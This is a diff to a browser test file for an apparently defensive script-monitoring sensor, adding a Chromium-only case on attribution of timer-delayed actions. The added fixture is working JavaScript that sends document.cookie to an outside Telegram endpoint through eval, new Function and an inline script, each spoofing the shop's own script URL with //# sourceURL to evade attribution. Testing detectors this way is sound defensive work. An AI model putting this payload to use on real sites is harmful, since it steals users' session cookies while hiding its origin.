@@ -8,9 +8,9 @@
 import type { Page } from 'puppeteer';
 import { expect, it } from 'vitest';
 import { pollPage } from '../helpers/harness.ts';
-import { HELPER_CDN } from '../helpers/hostile/main-world.ts';
+import { HELPER_CDN, TELEGRAM } from '../helpers/hostile/main-world.ts';
 import { describeEachBrowser } from './each-browser.ts';
-import { describeVerdicts, recordCase, settleAndListLoud, sharedBrowser, verdictOf, visit } from './sensors-main-support.ts';
+import { describeVerdicts, maybeVerdict, recordCase, settleAndListLoud, sharedBrowser, verdictOf, visit } from './sensors-main-support.ts';
 
 /**
  * Adds one coin to the cart two timers after it is told to (`window.__go`), the way a debounced shop
@@ -28,6 +28,21 @@ var wait = setInterval(function () {
     }, 30);
   }, 30);
 }, 20);`;
+
+/**
+ * A helper that passes its code off as the shop's: each piece ends with `//# sourceURL=` naming the shop's
+ * own script, and sends the cookie from a timer, where no frame of the helper's own file is left on the
+ * stack. By eval, by `new Function`, and by an inserted inline script.
+ */
+const CLAIMED = 'https://kazcoins.nationalbank.kz/assets/app.js';
+const SOURCE_URL_SPOOF = `(() => {
+  const send = (via) => "setTimeout(function () { fetch('${TELEGRAM}/" + via + "', { method: 'POST', mode: 'no-cors', body: document.cookie || 'sid=?' }); }, 40);\\n//# sourceURL=${CLAIMED}";
+  eval(send('eval'));
+  new Function(send('function'))();
+  const inline = document.createElement('script');
+  inline.textContent = send('inline');
+  document.head.appendChild(inline);
+})();`;
 
 const go = (tab: Page): Promise<void> => tab.evaluate(() => void ((window as { __go?: boolean }).__go = true));
 
@@ -72,4 +87,32 @@ describeEachBrowser('attribution through timer chains', (context) => {
     });
     expect(verdict?.finding.actor).toEqual({ type: 'script', url: `https://${HELPER_CDN}/timer-cart.js` });
   });
+
+  // Firefox prints the claimed URL as an ordinary frame and has no call sites to tell: an open gap there
+  // (docs/security.md), so this case runs in Chromium only.
+  if (browserName === 'chromium')
+    it("does not take a helper's code for the shop's when it claims a shop script's URL (//# sourceURL) and acts from a timer", async ({
+      task,
+    }) => {
+      context.shop.setFixture('/source-url-spoof.js', SOURCE_URL_SPOOF, { host: HELPER_CDN, contentType: 'text/javascript' });
+      context.shop.setFixture('/kz/source-url-spoof', page(`https://${HELPER_CDN}/source-url-spoof.js`));
+      const saq = await browser();
+      const { tabId } = await visit(saq, '/kz/source-url-spoof');
+      const found: Record<string, Awaited<ReturnType<typeof maybeVerdict>>> = {};
+      for (const via of ['eval', 'function', 'inline']) {
+        found[via] = await maybeVerdict(saq, tabId, 'SAQ-EXF-002', (v) => v.finding.evidence.url === `${TELEGRAM}/${via}`);
+        recordCase(task, {
+          behaviour: 'exfiltration',
+          case: `cookie → Telegram from a timer, code claiming a shop script's URL (${via})`,
+          malicious: true,
+          // Flagged only when the helper is not passed off as the shop (before the fix: critical, but "the shop page").
+          flagged: found[via] !== null && found[via].finding.actor.type !== 'page',
+          browser: browserName,
+        });
+      }
+      for (const via of ['eval', 'function', 'inline']) {
+        expect(found[via]?.severity, via).toBe('critical');
+        expect(found[via]?.finding.actor.type, via).not.toBe('page');
+      }
+    });
 });
